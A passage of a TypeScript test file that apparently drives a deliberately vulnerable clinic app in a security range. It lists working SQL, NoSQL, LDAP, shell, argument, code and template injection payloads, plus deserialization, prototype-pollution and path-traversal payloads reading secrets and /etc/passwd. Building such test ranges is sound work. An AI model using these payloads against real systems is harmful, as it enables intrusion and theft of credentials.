// The clinic: what a stranger would send who has read its sources, class by class. What its people send is in clinic-ordinary.ts.
import { join } from 'node:path';
import type { Effect, RangeCase, RangePlaces, RangeRequest, RangeServer } from '../case.ts';
import { zip } from '../known/archive.ts';
import { get, post, shelf, text, upload, type Shelf } from './shop.ts';

export function clinicCases(places: RangePlaces): RangeCase[] {
  const shelves: Shelf[] = [];
  const of = (guard: string, fill: (shelf: Shelf) => void, needs?: RangeServer): void => {
    const one = shelf(guard, places, needs);
    fill(one);
    shelves.push(one);
  };
  of('sql-injection', statements);
  of('nosql-injection', filters, 'mongodb');
  of('ldap-injection', searches, 'ldap');
  of('shell-injection', commands);
  of('argv-injection', programs);
  of('code-injection', rules);
  of('template-injection', letters);
  of('deserialization', restored);
  of('prototype-pollution', settings);
  of('path-traversal', attachments);
  of('ssrf', partners);
  of('log-injection', lines);
  return shelves.flatMap(({ cases }) => cases);
}

const answers = (holds: string): Effect => ({ kind: 'answer', holds });

/** A form with one file in it, of the name and content given. */
export function file(
  path: string,
  filename: string,
  content: string,
  fields: Readonly<Record<string, string>> = {},
): RangeRequest {
  const request = upload(path, filename.replaceAll('"', '%22'), fields);
  return { ...request, body: String(request.body).replace('\r\n\r\nhello\r\n', () => `\r\n\r\n${content}\r\n`) };
}

/** A token that nobody signed, as its claims. */
export function bearer(claims: Readonly<Record<string, string>>): Record<string, string> {
  const part = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url');
  return { authorization: `Bearer ${part({ alg: 'none' })}.${part(claims)}.` };
}

/** What HL7's second version looks like. */
export const message = (family: string, given = 'Mary'): string =>
  [
    'MSH|^~\\&|LAB|NORTH|CLINIC|MAIN|202603011200||ADT^A01|77|P|2.5',
    `PID|1||M-1001||${family}^${given}||19560301|F`,
  ].join('\r');

const graphql = (query: string, variables: Readonly<Record<string, unknown>> = {}): RangeRequest =>
  post('/desk/graphql', { query, variables });

/** Routes that put a text between quotation marks and answer with two columns. */
const quoted: Readonly<Record<string, (value: string) => RangeRequest>> = {
  'a record number': (value) => get(`/api/patients/by-record/${encodeURIComponent(value)}`),
  knex: (ward) => get('/desk/find/knex/where', { ward }),
  'kysely, a part': (ward) => get('/desk/find/kysely/where', { ward }),
  'kysely, all of it': (ward) => get('/desk/find/kysely/literal', { ward }),
  drizzle: (ward) => get('/desk/find/drizzle/raw', { ward }),
  objection: (ward) => get('/desk/find/objection/raw', { ward }),
  'mikro-orm': (ward) => get('/desk/find/mikro/raw', { ward }),
  slonik: (ward) => get('/desk/find/slonik/fragment', { ward }),
  'a queue': (ward) => post('/desk/schedules/report', { ward }),
  graphql: (ward) => graphql('query ($where: Where) { patients(where: $where) { family pin } }', { where: { ward } }),
  'graphql, in the document': (ward) =>
    graphql(`{ patients(where: { ward: ${JSON.stringify(ward)} }) { family pin } }`),
  'a report': (value) =>
    post('/api/reports', { columns: ['family', 'pin'], filters: [{ field: 'ward', op: '=', value }] }),
};

/** The same where the text is in a list: the list ends first, and what follows is a comment. */
const inList = (value: string): string =>
  `${value
    .replace(/--\s*$/, '')
    .replace("'", "')")
    .replace("|| '' OR", 'OR')}${/'[^' ]+$/.test(value) ? "'" : ''} --`;

function statements({ attack, places }: Shelf): void {
  const { secret } = places;
  const escapes = [
    "x' OR '1'='1",
    "x' OR hidden --",
    "x' UNION SELECT login, api_key FROM staff --",
    "x' OR family LIKE 'V%",
    "x'/**/OR/**/1=1--",
    "x'\nOR\n'a'<'b",
    "x'oR(hidden)-- ",
    "x' || '' OR ward = 'VIP",
    "x' OR EXISTS (SELECT 1) AND 'a'='a",
    "x' UNION/**/ALL/**/SELECT $$a$$, api_key FROM staff--",
  ];
  for (const [name, request] of Object.entries(quoted))
    for (const value of escapes)
      if (name !== 'mikro-orm' || !value.includes('UNION')) attack(`${name}: ${value}`, request(value));
  for (const value of escapes) {
    if (!value.includes('/**/OR'))
      attack(`wards: ${value}`, post('/api/patients/wards', { wards: ['A1', inList(value)] }));
    if (!/[|\n]|'$/.test(value) && !/='a$|='1$|V%$/.test(value))
      attack(`HL7: ${value}`, text('/api/hl7', message(value), 'x-application/hl7-v2+er7'));
    attack(
      `a token: ${value}`,
      get(
        '/api/token',
        {},
        bearer({
          sub: value
            .replaceAll('hidden', 'true')
            .replaceAll("family LIKE 'V%", "login LIKE 'r%")
            .replaceAll("ward = 'VIP", "role = 'admin"),
        }),
      ),
    );
    attack(`a plan, later: ${value}`, post('/desk/schedules/run/k', {}), undefined, [
      post('/desk/schedules', { key: 'k', words: value }),
    ]);
  }
  attack(
    'HL7: the given name',
    text('/api/hl7', message('x', "%' OR hidden OR given LIKE '"), 'x-application/hl7-v2+er7'),
  );
  attack('HL7: both names', text('/api/hl7', message('x\\', "' OR hidden --"), 'x-application/hl7-v2+er7'));
  attack('a note, later', get('/api/patients/1/same-note'), undefined, [
    { ...post('/api/safe/patients/1/note', { note: "x' OR hidden --" }), method: 'PUT' },
  ]);
  attack('a note, later, a union', get('/api/patients/2/same-note'), undefined, [
    { ...post('/api/safe/patients/2/note', { note: "x' UNION SELECT login, api_key FROM staff --" }), method: 'PUT' },
  ]);
  for (const value of [
    '1 OR 1=1',
    '0 OR hidden',
    '0 UNION SELECT login, api_key FROM staff',
    '0 or(true)',
    '-1 OR id>0',
  ])
    attack(`a key: ${value}`, get('/api/patients/by-key', { id: value }));
  for (const value of [
    '0 UNION SELECT login, pass, api_key FROM staff',
    '0 UNION SELECT api_key, $$$$, $$$$ FROM staff',
  ])
    attack(`an appointment: ${value}`, get(`/desk/appointments/${encodeURIComponent(value)}`));
  for (const search of ["x%' OR hidden) OR ('a' = 'b"])
    attack(`a search: ${search}`, get('/api/patients', { search }), answers('M-9999'));
  for (const [field, value] of [
    ['sort', 'id LIMIT 1; SELECT api_key FROM staff ORDER BY 1 --'],
    ['sort', '(SELECT CAST(api_key AS int) FROM staff WHERE id = 2)'],
    ['sort', "CAST((SELECT 'x' || api_key FROM staff WHERE id = 2) AS int)"],
    ['dir', ', (SELECT CAST(api_key AS int) FROM staff WHERE id = 2)'],
    ['dir', 'LIMIT 1; SELECT api_key FROM staff ORDER BY 1 --'],
    ['page', '0; SELECT api_key FROM staff'],
    ['page', '(SELECT CAST(api_key AS int) FROM staff WHERE id = 2)'],
  ] as const)
    attack(
      `${field}: ${value}`,
      get('/api/patients', { [field]: value }),
      answers(value.includes(';') ? secret : 'error 22P02'),
    );
  for (const [from, to] of [
    ["1900-01-01'::date AND '2100-01-01' OR hidden --", '2100-01-01'],
    ['1900-01-01', "2100-01-01'::date OR hidden IS TRUE --"],
    ['1900-01-01', "1900-01-02'::date UNION SELECT login, api_key FROM staff --"],
  ] as const)
    attack(`born: ${from} ${to}`, get('/api/patients/born', { from, to }));
  for (const q of [
    "a' || CAST((SELECT 'x' || api_key FROM staff WHERE id = 2) AS int) || '",
    "a'||(SELECT 'x' || pass FROM staff LIMIT 1)::int||'b",
  ])
    attack(`words: ${q}`, get('/api/patients/words', { q }), answers('error 22P02'));
  for (const at of [
    "telecom}' || '' AS a, (SELECT api_key FROM staff WHERE id = 2) || '{",
    "a}', api_key FROM staff, patients WHERE $1 <> '' --",
  ])
    attack(`a property: ${at}`, get('/api/patients/M-1001/property', { at }));
  for (const site of [
    'north.patients WHERE ward = $1 UNION SELECT api_key FROM staff --',
    "north.patients WHERE ward = $1 UNION SELECT api_key FROM staff WHERE 'a' <> 'b' OR $1 = 'x' --",
  ])
    attack(`a site: ${site}`, get('/api/site/patients', {}, { 'x-site': site }));
  for (const site of [
    '".patients UNION SELECT login, api_key FROM staff --',
    '"."patients" UNION SELECT api_key, login FROM staff; --',
  ])
    attack(`a site in a cookie: ${site}`, get('/api/site/quoted', {}, { cookie: `site=${encodeURIComponent(site)}` }));
  attack(
    'a site in a cookie of the desk',
    get(
      '/desk/appointments/room',
      {},
      {
        cookie: `site=${encodeURIComponent('pg_catalog".pg_class, (SELECT api_key AS room, 1 AS id FROM staff) AS s ORDER BY 1 DESC --')}`,
      },
    ),
  );
  for (const family of [
    "x' || (SELECT api_key FROM staff WHERE id = 2) || '",
    "x', pin = pin, note = (SELECT api_key FROM staff WHERE id = 2) || '",
  ])
    attack(
      `a family: ${family}`,
      { ...post('/api/patients/1/family', { family }), method: 'PUT' },
      answers(/pin =/.test(family) ? '42601' : secret),
    );
  for (const [name, body] of Object.entries<Record<string, unknown>>({
    'a column': { columns: ['family', "(SELECT string_agg(api_key, ',') FROM staff) AS k"] },
    'columns that leave': { columns: ['login, api_key FROM staff --'] },
    'a field': { columns: ['pin'], filters: [{ field: '1=1 OR hidden OR family', op: '=', value: 'x' }] },
    'an operator': { columns: ['pin'], filters: [{ field: 'family', op: "= 'x' OR hidden OR family =", value: 'x' }] },
    'an operator of its own': {
      columns: ['pin'],
      filters: [{ field: 'family', op: '<> family OR family <>', value: 'x' }],
    },
    'a group': { group: '(SELECT max(api_key) FROM staff)' },
    'a group that leaves': {
      group: 'ward',
      fn: 'max',
      of: 'pin) FILTER (WHERE true), max((SELECT max(api_key) FROM staff)',
    },
    'a function': { group: 'ward', fn: '(SELECT max(api_key) FROM staff) || count' },
    'what a function is of': { group: 'ward', fn: 'max', of: '(SELECT max(api_key) FROM staff)' },
    'a condition of groups': { group: 'ward', having: 'count(*) > 0 UNION SELECT api_key, 1 FROM staff' },
    'an order': { columns: ['family'], sort: '(SELECT CAST(api_key AS int) FROM staff WHERE id = 2)' },
    'an order, another statement': { columns: ['family'], sort: '1; SELECT api_key FROM staff' },
  }))
    attack(`a report: ${name}`, post('/api/reports', body), name === 'an order' ? answers('error 22P02') : undefined);
  for (const [name, q] of [
    ['a drug', "x%' UNION SELECT code, 1 FROM safe --"],
    ['a drug, a condition', "x' UNION SELECT code, '' FROM safe WHERE '' <> '"],
  ] as const)
    attack(name, get('/api/drugs', { q }));
  attack(
    'a drug, the order',
    get('/api/drugs', { q: '', sort: '1 LIMIT 1 OFFSET (SELECT abs(-9223372036854775807 - 1))' }),
    answers('error ERR_SQLITE_ERROR'),
  );
  for (const [name, query] of Object.entries({
    'a day': { day: "2026-03-01' UNION SELECT login, pass, api_key FROM staff --" },
    'a room': { room: "x' UNION SELECT login, pass, api_key FROM staff --" },
    'a room, two halves': { day: '2026-03-01\\', room: "' UNION SELECT login, pass, api_key FROM staff --" },
    'an order': { sort: '(SELECT CAST(api_key AS int) FROM staff WHERE id = 2)' },
  }))
    attack(name, get('/desk/appointments', query), name === 'an order' ? answers('error 22P02') : undefined);
  for (const [name, body] of Object.entries({
    'a reason': { room: 'R', reason: "x' || (SELECT api_key FROM staff WHERE id = 2) || '", staff: 's' },
    'a member of staff': {
      room: 'R',
      reason: 'x',
      staff: "s'), (9, '2026-01-01', 'R', (SELECT api_key FROM staff WHERE id = 2), 's",
    },
    'two together': {
      room: "', (SELECT api_key FROM staff WHERE id = 2), 'x') RETURNING room, reason, staff --",
      reason: 'x',
      staff: 's',
    },
  }))
    attack(name, post('/desk/appointments', body));
  for (const [name, query] of Object.entries({
    'a calendar': { from: "2026-01-01' UNION SELECT login, api_key FROM staff --" },
    'days of a calendar': { from: '2026-01-01', days: "7 days' UNION SELECT login, api_key FROM staff --" },
    'a zone': { from: '2026-01-01', zone: "UTC' IS NOT NULL UNION SELECT login, api_key FROM staff --" },
  }))
    attack(name, get('/desk/appointments/calendar', query));
  for (const [at, field] of [
    ['kysely/order', 'sort'],
    ['knex/order', 'sort'],
  ] as const)
    for (const value of [
      '(SELECT CAST(api_key AS int) FROM staff WHERE id = 2)',
      "1, CAST((SELECT 'x' || pass FROM staff LIMIT 1) AS int)",
    ])
      attack(`${at}: ${value}`, get(`/desk/find/${at}`, { [field]: value }), answers('error 22P02'));
  attack('drizzle, a part', get('/desk/find/drizzle/part', { by: '(SELECT max(api_key) FROM staff)' }));
  attack('drizzle, a column', get('/desk/find/drizzle/part', { by: "pin || ''" }), answers('1111'));
  attack('knex, columns', get('/desk/find/knex/select', { fields: 'family, (SELECT max(api_key) FROM staff)' }));
  attack(
    'knex, a condition of groups',
    get('/desk/find/knex/having', { least: '0 UNION SELECT api_key FROM staff' }),
    answers(secret),
  );
  attack(
    'a browser',
    get('/api/audit/insert', {}, { 'user-agent': "x' || (SELECT api_key FROM staff WHERE id = 2) || '" }),
  );
  attack(
    'a browser, more rows',
    get(
      '/api/audit/insert',
      {},
      { 'user-agent': "x'), ('a', (SELECT api_key FROM staff WHERE id = 2)) RETURNING words --" },
    ),
  );
  attack(
    'graphql, a union',
    graphql(`
      {
        patients(where: { ward: "x' UNION SELECT login AS family, api_key AS pin FROM staff ORDER BY 1 --" }) {
          pin
        }
      }
    `),
  );
  for (const [name, value] of [
    ['a union', "x' UNION SELECT pin FROM patients --"],
    ['all of them', "x' OR hidden --"],
  ] as const)
    attack(`lines of a file: ${name}`, file('/desk/uploads/csv', 'import.csv', `family,ward\n"${value}",A1`));
  attack(
    'lines of a file: the second column',
    file('/desk/uploads/csv', 'import.csv', `family,ward\nx,"' OR hidden --"`),
  );
  attack(
    'a state',
    get(
      `/board/invoices/state/${encodeURIComponent("x' OR (SELECT CAST(api_key AS int) FROM staff WHERE id = 2) = 1 --")}`,
    ),
    answers('error 22P02'),
  );
  attack(
    'a state in a header',
    get(
      '/board/invoices/by-header',
      {},
      { 'x-state': "x' OR (SELECT CAST(api_key AS int) FROM staff WHERE id = 2) = 1 --" },
    ),
    answers('error 22P02'),
  );
  attack(
    'a memo',
    post('/board/invoices/memo', { memo: "x' UNION SELECT length(api_key) FROM staff WHERE id = 2 --" }),
    answers('"amount":"23"'),
  );
  attack('a memo, trimmed', post('/board/invoices/memo', { memo: "   x' OR '1'='1   " }), answers('250'));
  attack(
    'an order of invoices, an error',
    get('/board/invoices/sorted', { sort: 'CAST((SELECT api_key FROM staff WHERE id = 2) AS int)' }),
    answers('error 22P02'),
  );
  attack('a total', get('/board/invoices/total', { by: '(SELECT max(api_key) FROM staff)' }));
  attack(
    'lines of an invoice',
    post('/board/invoices/lines', {
      lines: [{ memo: 'a' }, { memo: "b' || (SELECT max(api_key) FROM staff WHERE id = 2) || '" }],
    }),
  );
  attack(
    'the account of a line',
    post('/board/invoices/lines', {
      lines: [{ memo: 'a', account: "'), (0, 'draft', (SELECT api_key FROM staff WHERE id = 2)) RETURNING memo --" }],
    }),
  );
}

function filters({ attack }: Shelf): void {
  for (const [name, filter] of Object.entries<unknown>({
    'open by a list': { open: { $in: [true, false] } },
    'not open': { open: { $ne: true } },
    'any of two': { open: { $exists: true } },
    'a value': { open: { $gte: false } },
  }))
    attack(name, post('/api/fhir/search', { filter }));
  for (const [name, body] of Object.entries<Record<string, unknown>>({
    'no token': { user: 'root', token: { $ne: null } },
    'a long token': { user: 'root', token: { $gt: '' } },
    'a pattern': { user: 'root', token: { $regex: '^secret' } },
    'not in': { user: { $nin: ['bob'] }, token: { $exists: true } },
    'not equal': { user: { $ne: 'bob' }, token: { $not: { $eq: 'x' } } },
  }))
    attack(name, post('/api/fhir/session', body));
  for (const [name, query] of Object.entries<Record<string, string>>({
    'brackets: a subject': { code: 'HIV', 'subject[$ne]': 'x', 'open[$ne]': '1' },
  }))
    attack(name, get('/api/fhir/observations', query), answers('[]'));
  attack(
    'brackets: everything',
    get('/api/fhir/observations', { 'code[$ne]': 'x', 'subject[$ne]': 'y' }),
    answers('M-1002'),
  );
  for (const session of ['{"user":"root","token":{"$ne":1}}', '{"user":{"$gt":"c"}}'])
    attack(`a cookie: ${session}`, get('/api/fhir/session', {}, { cookie: `session=${encodeURIComponent(session)}` }));
}

function searches({ attack }: Shelf): void {
  for (const [user, password] of [
    ['admin)(|(uid=*', 'x)'],
    ['*', '*'],
    ['admin', '*'],
    ['*)(|(uid=*', 'x'],
    ['admin)(cn=*', '*'],
  ] as const)
    attack(`${user} ${password}`, post('/api/login', { user, password }), answers('uid='));
  for (const q of ['*)(visible=no', 'x)(visible=no)(uid=*', 'b*)(userPassword=h'])
    attack(q, get('/api/colleagues', { q }), answers('uid='));
}

function commands({ attack, places }: Shelf): void {
  const made = (
    name: string,
    make: (command: string) => RangeRequest,
    before?: (command: string) => RangeRequest,
  ): void => {
    const path = join(places.outside, places.token());
    const command = `touch ${path}`;
    attack(name, make(command), { kind: 'file', path }, before && [before(command)]);
  };
  for (const [name, wrap] of Object.entries<(command: string) => string>({
    'a quotation mark': (c) => `x"; ${c}; echo "`,
    'a substitution': (c) => `x $(${c})`,
    backticks: (c) => `x \`${c}\``,
    'a line end': (c) => `x"\n${c}\necho "`,
    and: (c) => `x" && ${c} && echo "`,
    'a pipe': (c) => `x" | ${c} | echo "`,
    'inside a word': (c) => `x\${y:-$(${c})}`,
    arithmetic: (c) => `$((\`${c}\`))`,
  })) {
    made(`a title: ${name}`, (c) => post('/api/letters/pdf', { title: wrap(c) }));
    made(`a memo: ${name}`, (c) => post('/board/print', { memo: wrap(c) }));
    made(`the environment: ${name}`, (c) => post('/api/letters/env', { title: wrap(c).replaceAll('"', '') }));
  }
  for (const [name, wrap] of Object.entries<(command: string) => string>({
    'a quotation mark': (c) => `x'; ${c}; echo '`,
    'a substitution outside': (c) => `x'$(${c})'`,
    'a line end': (c) => `x'\n${c}\necho '`,
  }))
    made(`a title in single marks: ${name}`, (c) => post('/api/letters/single', { title: wrap(c) }));
  for (const [name, wrap] of Object.entries<(command: string) => string>({
    'a backslash': (c) => `x\\"; ${c}; echo \\"`,
    'a substitution': (c) => `x $(${c})`,
    backticks: (c) => `\`${c}\``,
  }))
    made(`a title with its marks escaped: ${name}`, (c) => post('/api/letters/escaped', { title: wrap(c) }));
  for (const [name, wrap] of Object.entries<(command: string) => string>({
    'a substitution': (c) => `Dear $(${c})`,
    'the end': (c) => `Dear\nLETTER\n${c}\n`,
    backticks: (c) => `\`${c}\``,
  }))
    made(`a letter: ${name}`, (c) => post('/api/letters/here', { body: wrap(c) }));
  for (const [name, wrap] of Object.entries<(command: string) => string>({
    semicolon: (c) => `x; ${c}`,
    ampersand: (c) => `x & ${c}`,
    pipe: (c) => `x | ${c}`,
    or: (c) => `x --bad || false; ${c}`,
    substitution: (c) => `<(${c})`,
    'line end': (c) => `x\n${c}`,
    'blanks by braces': (c) => `x;{${c.replace(' ', ',')}}`,
    'blanks by a variable': (c) => `x;${c.replace(' ', '${IFS}')}`,
    redirect: (c) => `x > ${c.slice(6)}`,
  })) {
    made(`spawned: ${name}`, (c) => post('/api/letters/spawned', { title: wrap(c) }));
    if (!/substitution|braces/.test(name))
      made(`a queue: ${name}`, (c) => post('/desk/schedules/print', { what: wrap(c) }));
    if (!/substitution|braces/.test(name))
      made(
        `a plan, later: ${name}`,
        () => post('/desk/schedules/shell/s', {}),
        (c) => post('/desk/schedules', { key: 's', words: wrap(c) }),
      );
    if (!/substitution|redirect|braces/.test(name))
      made(`paper: ${name}`, (c) => post('/api/letters/pdf', { title: 'x', paper: `${wrap(c)} #` }));
  }
  made('pages', (c) => post('/api/letters/pages', { pages: `1p; ${c}; echo ` }));
  made('pages, a substitution', (c) => post('/api/letters/pages', { pages: `$(${c})1` }));
}

function programs({ attack, places, leaks }: Shelf): void {
  const made = (name: string, make: (path: string) => RangeRequest): void => {
    const path = join(places.outside, places.token());
    attack(name, make(path), { kind: 'file', path });
  };
  const { outside } = places;
  const secretFile = join(outside, 'secret.txt');
  made('tar, a checkpoint', (path) =>
    post('/api/images/thumbnail', { options: ['--checkpoint=1', `--checkpoint-action=exec=touch ${path}`] }),
  );
  made('tar, a program to compress with', (path) =>
    post('/api/images/thumbnail', { options: [`--use-compress-program=touch ${path}`] }),
  );
  made('zip, settings of a test', (path) => post('/api/archive', { files: ['-T', `--unzip-command=touch ${path} #`] }));
  made('find, exec', (path) => post('/api/images/list', { pattern: `-maxdepth 0 -exec touch ${path} ;` }));
  made('find, a list', (path) => post('/api/images/list', { pattern: `-fprint ${path}` }));
  made('find, execdir', (path) => post('/api/images/list', { pattern: `-maxdepth 0 -execdir touch ${path} ;` }));
  attack('curl, a file', post('/api/images/fetch', { from: `file://${secretFile}` }), leaks);
  attack('curl, settings', post('/api/images/fetch', { from: `-K${join(outside, 'curlrc')}` }), answers('root:'));
  made('wget, a log', (path) => post('/api/images/mirror', { from: `--output-file=${path}` }));
  made('wget, a password program', (path) => post('/api/images/mirror', { from: `--append-output=${path}` }));
  made('ssh, a proxy', (path) => post('/api/letters/ssh', { host: `-oProxyCommand=touch ${path}` }));
  made('zip, a test', (path) => post('/api/archive', { files: ['-T', `-TTtouch ${path} #`] }));
  made('git log, an output', (path) => post('/api/archive/log', { ref: `--output=${path}` }));
  made('git grep, a pager', (path) => post('/api/archive/grep', { word: 'alpha', flags: [`-Otouch ${path};`] }));
  made('sort, an output', (path) => post('/api/archive/sorted', { by: `--output=${path}` }));
  made('awk, a call', (path) => post('/api/archive/awk', { column: `1; system("touch ${path}")` }));
  made('awk, a pipe', (path) => post('/api/archive/awk', { column: `1; print "" > "${path}"` }));
  made('awk, another program', (path) =>
    post('/api/archive/awk', { column: `1 } BEGIN { "touch ${path}" | getline ` }),
  );
  made('sed, a command', (path) => post('/api/archive/sed', { mask: `x/w ${path}\np;s/x/x` }));
  made('sed, executed', (path) => post('/api/archive/sed', { mask: `x/;1e touch ${path}\ns/x/x` }));
  made('sqlite, a shell', (path) => post('/api/archive/sqlite', { sql: `.shell touch ${path}` }));
  made('sqlite, an output', (path) => post('/api/archive/sqlite', { sql: `.output ${path}` }));
  made('psql, a file', (path) => post('/api/archive/copied', { table: path }));
  attack('psql, a statement', post('/api/archive/psql', { ward: "x' OR hidden --" }), leaks);
  attack('psql, a union', post('/api/archive/psql', { ward: "x' UNION SELECT login, api_key FROM staff --" }), leaks);
  attack('jq, the environment', post('/api/archive/jq', { filter: 'env.RANGE_SECRET' }), leaks);
  attack('jq, all of the environment', post('/api/archive/jq', { filter: '$ENV' }), leaks);
}

function rules({ attack, places, leaks }: Shelf): void {
  const secret = 'process.env.RANGE_SECRET';
  const texts: Readonly<Record<string, string>> = {
    'the environment': secret,
    'a comma': `(weight, ${secret})`,
    'a call': `(() => ${secret})()`,
    'by brackets': "process['env']['RANGE_SECRET']",
    'in two parts': "process['en' + 'v']['RANGE_' + 'SECRET']",
    'by the constructor': `weight.constructor.constructor('return ${secret}')()`,
    'by an array': `[].map.constructor('return ${secret}')()`,
    'behind a condition': `weight > 0 ? ${secret} : 0`,
    'a template': `\`\${${secret}}\``,
    'a file': `process.getBuiltinModule('fs').readFileSync('${join(places.outside, 'secret.txt')}', 'utf8')`,
    'a program': "process.getBuiltinModule('child_process').execSync('echo $RANGE_SECRET').toString()",
    reflected: "Reflect.get(process, 'env').RANGE_SECRET",
    'escaped letters': 'pr\\u006fcess.env.RANGE_SECRET',
    globalThis: "globalThis['pro' + 'cess'].env.RANGE_SECRET",
  };
  for (const [name, formula] of Object.entries(texts)) {
    attack(`a formula: ${name}`, post('/api/rules/function', { formula }), leaks);
    attack(`a formula with a scope: ${name}`, post('/api/rules/with', { formula }), leaks);
    attack(`an invoice: ${name}`, post('/board/rules', { memo: formula.replaceAll('weight', 'amount') }), leaks);
  }
  for (const formula of [
    `this.constructor.constructor('return ${secret}')()`,
    `constructor.constructor("return ${secret}")()`,
    `(function () { return this.constructor.constructor('return ${secret}')() })()`,
    `[].constructor.constructor; sex.constructor; this['constr' + 'uctor'].constructor('return ${secret}')()`,
  ])
    attack(`a sandbox: ${formula}`, post('/api/rules/vm', { formula }), leaks);
  for (const [name, unit] of [
    ['x": process.env.RANGE_SECRET, "y', 'mg'],
    ['x', "' + process.env.RANGE_SECRET + '"],
    ['x', "mg', secret: process.env.RANGE_SECRET, z: '"],
    ['x" : 1 }), (process.env.RANGE_SECRET)//', 'mg'],
  ] as const)
    attack(
      `a name: ${name} ${unit}`,
      post('/api/rules/script', { name, unit }),
      name.includes('//') ? answers('error TypeError') : leaks,
    );
  for (const at of [
    'x || process.env.RANGE_SECRET',
    `constructor.constructor('return ${secret}')()`,
    'name.map(() => process.env.RANGE_SECRET)',
    'active, process.env.RANGE_SECRET',
    'active\n&& process.env.RANGE_SECRET',
  ])
    attack(`a path: ${at}`, post('/api/rules/path', { at }), leaks);
  attack('a condition', post('/api/rules/filter', { where: 'code = process.env.RANGE_SECRET' }), leaks);
  attack(
    'a condition, later',
    post('/api/rules/filter', { where: 'code && (item.code = process.env.RANGE_SECRET)' }),
    leaks,
  );
}

function letters({ attack, leaks }: Shelf): void {
  const by = (at: string, ...bodies: readonly string[]): void => {
    for (const body of bodies) attack(body, post(`/api/templates/${at}`, { body }), leaks);
  };
  const secret = 'process.env.RANGE_SECRET';
  by(
    'ejs',
    `<%= ${secret} %>`,
    `<%- ${secret} -%>`,
    `<% const a = ${secret}; %><%= a %>`,
    `<%= patient.name.constructor.constructor("return ${secret}")() %>`,
    `<%_ -%><%=\n${secret}\n%>`,
  );
  by('eta', `<%= ${secret} %>`, `<%~ ${secret} %>`, `<% let a = ${secret} %><%= a %>`);
  by('lodash', `<%= ${secret} %>`, `<%- ${secret} %>`, `\${${secret}}`, `<% print(${secret}) %>`);
  by('pug', `\np= ${secret}`, `#{${secret}}`, `\n- var a = ${secret}\np #{a}`, `!{${secret}}`);
  by(
    'nunjucks',
    `{{ range.constructor("return ${secret}")() }}`,
    `{{ patient.name.constructor.constructor("return ${secret}")() }}`,
    `{% set a = cycler.constructor("return ${secret}")() %}{{ a }}`,
  );
  attack(
    'options: the name of the function',
    post('/api/templates/ejs-options', { options: { outputFunctionName: `x; return ${secret}; //`, client: true } }),
    answers('error Error'),
  );
  attack(
    'options: escaping',
    post('/api/templates/ejs-options', { options: { client: true, escapeFunction: `1; return ${secret}` } }),
    leaks,
  );
}

function restored({ attack, places, leaks }: Shelf): void {
  const path = join(places.outside, places.token());
  const cookie = (profile: unknown): Record<string, string> => ({
    cookie: `profile=${Buffer.from(JSON.stringify(profile)).toString('base64')}`,
  });
  attack(
    'a profile',
    get(
      '/api/settings/restored',
      {},
      cookie({ name: '_$$ND_FUNC$$_function () { return process.env.RANGE_SECRET }()' }),
    ),
    leaks,
  );
  attack(
    'a profile, deeper',
    get(
      '/api/settings/restored',
      {},
      cookie({
        name: 'x',
        a: { b: `_$$ND_FUNC$$_(function () { process.getBuiltinModule('fs').writeFileSync('${path}', '') })()` },
      }),
    ),
    { kind: 'file', path },
  );
  attack(
    'a setting',
    post('/api/settings/yaml', { document: "unit: !!js/function 'function () { return 1 }'\n" }),
    answers('function'),
  );
  attack(
    'a setting that is read',
    post('/api/settings/yaml', {
      document: `unit: { toString: !!js/function 'function () { return process.env.RANGE_SECRET }' }`,
    }),
    leaks,
  );
}

function settings({ attack }: Shelf): void {
  const staff: Effect = { kind: 'answer', holds: 'staff', of: get('/api/settings/staff') };
  const patch = (body: string): RangeRequest => ({
    method: 'PATCH',
    path: '/api/settings',
    headers: { 'content-type': 'application/json' },
    body,
  });
  attack('__proto__', patch('{"__proto__":{"isStaff":true}}'), staff);
  attack('constructor', patch('{"constructor":{"prototype":{"isStaff":true}}}'), staff);
  attack('deeper', patch('{"theme":{"__proto__":{"isStaff":"yes"}}}'), staff);
  attack('escaped', patch('{"\\u005f_proto__":{"isStaff":1}}'), staff);
  for (const at of [
    '__proto__.isStaff',
    'constructor.prototype.isStaff',
    'theme.__proto__.isStaff',
    'theme.constructor.prototype.isStaff',
  ])
    attack(at, { ...post('/api/settings/at', { at, value: true }), method: 'PUT' }, staff);
  for (const at of ['__proto__.isStaff', 'constructor.prototype.isStaff'])
    attack(`a query: ${at}`, { method: 'POST', path: `/api/settings/query?${at}=1` }, staff);
}

function attachments({ attack, places, leaks }: Shelf): void {
  const up = '../'.repeat(14);
  const secretFile = join(places.outside, 'secret.txt').slice(1);
  for (const name of [
    '../private/secret.txt',
    `${up}etc/passwd`,
    `${up}${secretFile}`,
    'sub/../../private/secret.txt',
    './/..//private/secret.txt',
  ])
    attack(
      name,
      get(`/api/files/file/${encodeURIComponent(name)}`),
      name.endsWith('passwd') ? answers('root:') : leaks,
    );
  for (const [patient, name] of [
    ['sub', '../../private/secret.txt'],
    ['..', 'private/secret.txt'],
    ['../private', 'secret.txt'],
    ['sub/..', '../private/secret.txt'],
    ['../publi-secrets', 'secret.txt'],
  ] as const) {
    attack(`${patient} and ${name}`, get('/api/files', { patient, name }), leaks);
  }
  attack('a type', get('/api/files/typed', { name: '../private/secret' }), leaks);
  attack('a type of its own', get('/api/files/typed', { name: '../private/theme', type: 'json' }), leaks);
  for (const folder of ['../private', '..', 'sub/../../private', '../../../outside'])
    attack(
      `a list: ${folder}`,
      get('/api/files/list', { folder }),
      answers(folder === '..' ? 'private' : 'secret.txt'),
    );
  attack('is it there', get('/api/files/exists', { name: '../private/secret.txt' }), answers('23'));
  attack('is it there, far away', get('/api/files/exists', { name: `${up}${secretFile}` }), answers('23'));
  attack('sent', get('/api/files/sent', { name: '../private/secret.txt' }), leaks);
  attack('sent, the whole path', get('/api/files/sent', { name: `/${secretFile}` }), leaks);
  attack('streamed', get('/api/files/streamed', { name: '../private/secret.txt' }), leaks);
  attack('streamed, encoded', get('/api/files/streamed', { name: '%2e%2e/private/secret.txt' }), leaks);
  attack('streamed, backslashes', get('/api/files/streamed', { name: '..\\private\\secret.txt' }), leaks);
  attack('a locale', get('/api/files/locale', { lang: '../private/theme.json' }), leaks);
  attack('a locale from afar', get('/api/files/locale', { lang: '../../../outside/theme.json' }), leaks);
  const made = (name: string, make: (path: string) => RangeRequest): void => {
    const path = join(places.outside, `${places.token()}.txt`);
    attack(name, make(path), { kind: 'file', path });
  };
  const climbing = (path: string, depth: number): string => '../'.repeat(depth) + path.slice(1);
  made('moved', (path) => post('/api/files/moved', { to: climbing(path, 14) }));
  made('an archive', (path) => ({
    method: 'POST',
